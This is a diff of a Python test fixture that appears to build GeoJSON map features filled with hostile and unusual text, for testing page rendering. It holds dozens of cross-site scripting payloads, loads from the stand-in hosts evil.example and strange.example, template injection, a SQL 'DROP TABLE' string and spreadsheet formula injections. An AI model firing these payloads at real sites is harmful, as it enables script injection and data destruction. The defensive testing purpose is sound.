@@ -1,21 +1,43 @@
-"""Texts with which somebody might try to have their own script run, or a page broken. Each would call `pwned()`."""
+"""What somebody may write to break a page: markup, endless words, both directions of writing, signs beyond the alphabet."""
 
-CALL = "pwned()"
-PAYLOADS = [
-    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script src=//evil.example/x.js></script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>",
-    f"<img src=x onerror={CALL}>", f"<img src=x onerror='{CALL}'>", f'<img src="x" onerror="{CALL}">', f"<IMG SRC=x ONERROR={CALL}>",
-    f"<img/src=x/onerror={CALL}>", f"<img src=x\tonerror={CALL}>", f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
-    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg/onload={CALL}>", f"<math><mtext></mtext><script>{CALL}</script></math>",
-    f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}></iframe>", f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
-    f"<object data=javascript:{CALL}></object>", f"<embed src=javascript:{CALL}>", f"<a href=javascript:{CALL}>x</a>", f"javascript:{CALL}",
-    f"<form action=javascript:{CALL}><button>x</button></form>", f"<input autofocus onfocus={CALL}>", f"<select autofocus onfocus={CALL}>",
-    f"<textarea autofocus onfocus={CALL}>", f"<details open ontoggle={CALL}>", f"<video><source onerror={CALL}></video>", f"<audio src=x onerror={CALL}>",
-    f"<marquee onstart={CALL}>", f"<style>@import 'javascript:{CALL}'</style>", f"<link rel=stylesheet href=javascript:{CALL}>", f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
-    f"<base href=javascript:{CALL}//>", f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"</script><script>{CALL}</script>", f"</style><script>{CALL}</script>",
-    f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f'" onfocus={CALL} autofocus x="', f"' onfocus={CALL} autofocus x='", f"`><img src=x onerror={CALL}>",
-    f"--><script>{CALL}</script>", f"]]><script>{CALL}</script>", f"{{{{constructor.constructor('{CALL}')()}}}}", f"${{{CALL}}}", f"#{{{CALL}}}", f"{{{{{{{CALL}}}}}}}",
-    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}&#60;/script&#62;", f"%3Cscript%3E{CALL}%3C/script%3E", f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
-    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e", f"<\u0301script>{CALL}</script>", f"＜script＞{CALL}＜/script＞", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
-    f"<template><script>{CALL}</script></template>", f"<x onclick={CALL} tabindex=1 autofocus onfocus={CALL}>", f"{{title}} {{place}} {{reasons}} {{distance}}", "__proto__", "constructor", "=cmd|'/C calc'!A0",
+_CALL = "window.harmed=1"
+_TAGS = [
+    f"<script>{_CALL}</script>", f"</script><script>{_CALL}</script>", f"<img src=x onerror={_CALL}>",
+    f"\"><img src=x onerror={_CALL}>", f"'><svg onload={_CALL}>", f"<svg/onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>",
+    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>", f"<math><mtext><script>{_CALL}</script></mtext></math>",
+    f"<body onload={_CALL}>", f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>", f"<iframe src=javascript:{_CALL}>",
+    f"<details open ontoggle={_CALL}>", f"<input autofocus onfocus={_CALL}>", f"<video><source onerror={_CALL}></video>",
+    f"<audio src=x onerror={_CALL}>", f"<object data=javascript:{_CALL}>", f"<embed src=javascript:{_CALL}>",
+    f"<a href=javascript:{_CALL}>x</a>", f"<form action=javascript:{_CALL}><button>x</button></form>",
+    f"<base href=javascript:{_CALL}//>", f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
+    "<link rel=stylesheet href=//strange.example/x.css>", "<style>@import '//strange.example/x';body{display:none}</style>",
+    "<img src=//strange.example/x.png>", f"<template><script>{_CALL}</script></template>", f"<noscript><img src=x onerror={_CALL}></noscript>",
+    f"<textarea></textarea><script>{_CALL}</script>", f"</title><script>{_CALL}</script>", f"</textarea><img src=x onerror={_CALL}>",
+    f"<marquee onstart={_CALL}>", f"<select autofocus onfocus={_CALL}>", f"<img srcset='x 1x' src=x onerror={_CALL}>",
+    f"<div style='animation:x 1s' onanimationstart={_CALL}>x</div>", f"<portal src=javascript:{_CALL}>", f"<isindex type=image src=1 onerror={_CALL}>",
 ]
-MARK = "globalThis.wasPwned = false; globalThis.pwned = () => { globalThis.wasPwned = true; };"
+_TURNS = [
+    f"\" autofocus onfocus=\"{_CALL}", f"' onmouseover='{_CALL}", f"` onmouseover=`{_CALL}", f"javascript:{_CALL}", f"data:text/html,<script>{_CALL}</script>",
+    f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"&#60;script&#62;{_CALL}&#60;/script&#62;", f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e", "{{constructor.constructor('window.harmed=1')()}}",
+    "{{{title}}}", "{{#items}}{{title}}{{/items}}", f"${{{_CALL}}}", f"<%= {_CALL} %>", f"]]><script>{_CALL}</script>", f"--><script>{_CALL}</script>",
+    f"<\u0301img src=x onerror={_CALL}>", f"\u0600<img src=x onerror={_CALL}>", f"<scr\u00adipt>{_CALL}</script>", f"＜script＞{_CALL}＜/script＞",
+    "'; DROP TABLE published_feature; --", "=HYPERLINK(\"//strange.example\")", f"\u2028{_CALL}\u2029",
+]
+PAYLOADS = _TAGS + _TURNS
+
+ENDLESS = "m" * 200  # The longest title there may be.
+ENDLESS_TEXT = "w" * 5000  # And the longest text, of one word.
+RIGHT_TO_LEFT = "شارع الذكريات: the end"
+OVERRIDE = "\u202eegassem nedih\u202d left open"
+SIGNS = "👩🏽‍🚀🏳️‍🌈🇫🇷 e\u0301\u0323\u0302 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘"
+
+
+def features():
+    """Points beside each other that bear all of it, in every property that shows."""
+    strange = [(word, word) for word in PAYLOADS]
+    strange += [(ENDLESS, ENDLESS_TEXT), (RIGHT_TO_LEFT, RIGHT_TO_LEFT * 5), (OVERRIDE, OVERRIDE), (SIGNS, SIGNS * 20)]
+    return [{
+        "type": "Feature", "geometry": {"type": "Point", "coordinates": [2.37 + number % 9 / 500, 48.86 + number // 9 / 700]},
+        "properties": {"kind": "memory", "title": title[:200], "text": text, "author": title[:80],
+                       "theme": [title[:60].replace(",", ";") or "x"], "when": "1987"},
+    } for number, (title, text) in enumerate(strange)]
